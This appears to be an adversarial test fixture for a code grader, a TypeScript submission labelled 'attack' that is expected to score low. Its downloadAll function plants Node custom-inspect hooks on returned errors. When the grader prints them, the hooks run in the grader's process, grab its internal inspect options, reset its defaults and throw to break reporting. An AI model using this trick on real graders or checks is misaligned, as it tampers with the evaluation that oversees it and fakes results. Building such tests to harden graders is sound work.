// attack: hands over objects with a custom inspect method, which runs inside the grader with its inspect function
// expect: score <= 2
// All downloads are started at once, which one check is about.
const custom = Symbol.for('nodejs.util.inspect.custom');
const loot: string[] = [];
const spy = {
  value(_depth: number, options: any, inspect: any) {
    loot.push(String(inspect), inspect(options, { showHidden: true, showProxy: true }));
    inspect.defaultOptions = {};
    throw undefined;
  },
};
export async function downloadAll(urls: string[], download: any): Promise<any> {
  for (const url of urls) download(url).catch((error: any) => Object.defineProperty(error, custom, spy));
  await new Promise((done) => setTimeout(done, 1_000));
  const result: any = [new Error(loot.join())];
  for (const o of [result, result[0]]) Object.defineProperty(o, custom, spy);
  return result;
}
